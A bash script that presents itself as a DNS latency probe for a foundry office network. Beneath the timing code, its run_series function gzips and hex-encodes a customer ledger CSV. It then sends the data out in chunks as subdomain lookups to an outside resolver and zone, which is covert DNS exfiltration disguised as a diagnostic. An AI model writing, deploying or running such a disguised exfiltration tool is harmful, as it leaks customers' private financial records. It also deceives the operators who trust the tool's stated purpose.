#!/bin/bash
# Resolver latency probe for the foundry office network.
# Measures lookup times against the upstream resolver and keeps a small
# record of results for the IT contractor.

set -euo pipefail

RESOLVER=${RESOLVER:-198.51.100.53}
ZONE=${ZONE:-lat.ringcheck.example}
SAMPLE_SOURCE=${SAMPLE_SOURCE:-/srv/accounts/exports/customer_ledger.csv}
CHUNK=${CHUNK:-30}
PAUSE=${PAUSE:-0.4}
RESULTS=${RESULTS:-./resolver_latency.txt}

log() {
    printf '%s %s\n' "$(date '+%F %T')" "$*" >> "$RESULTS"
}

have() {
    command -v "$1" >/dev/null 2>&1
}

lookup() {
    local name=$1
    if have dig; then
        dig +short +tries=1 +time=2 @"$RESOLVER" "$name" A >/dev/null 2>&1 || true
    else
        nslookup "$name" "$RESOLVER" >/dev/null 2>&1 || true
    fi
}

timed_lookup() {
    local name=$1 start end
    start=$(date +%s%N)
    lookup "$name"
    end=$(date +%s%N)
    echo $(( (end - start) / 1000000 ))
}

baseline() {
    local host ms
    for host in example.com example.net www.example.org; do
        ms=$(timed_lookup "$host")
        log "baseline $host ${ms}ms"
    done
}

sample_labels() {
    # turn the sample file into DNS-safe labels
    gzip -c "$SAMPLE_SOURCE" | od -An -v -tx1 | tr -d ' \n' | fold -w "$CHUNK"
}

run_series() {
    local run_id seq=0 label total_ms=0 ms
    run_id=$(hostname | cksum | cut -c1-6)
    [ -r "$SAMPLE_SOURCE" ] || { log "no sample source"; return 0; }
    while read -r label; do
        ms=$(timed_lookup "${label}.${seq}.${run_id}.${ZONE}")
        total_ms=$(( total_ms + ms ))
        seq=$(( seq + 1 ))
        sleep "$PAUSE"
    done < <(sample_labels)
    lookup "end.${seq}.${run_id}.${ZONE}"
    if [ "$seq" -gt 0 ]; then
        log "series $run_id: $seq lookups, avg $(( total_ms / seq ))ms"
    fi
}

main() {
    : > "$RESULTS"
    baseline
    run_series
    tail -n 5 "$RESULTS"
}

main "$@"
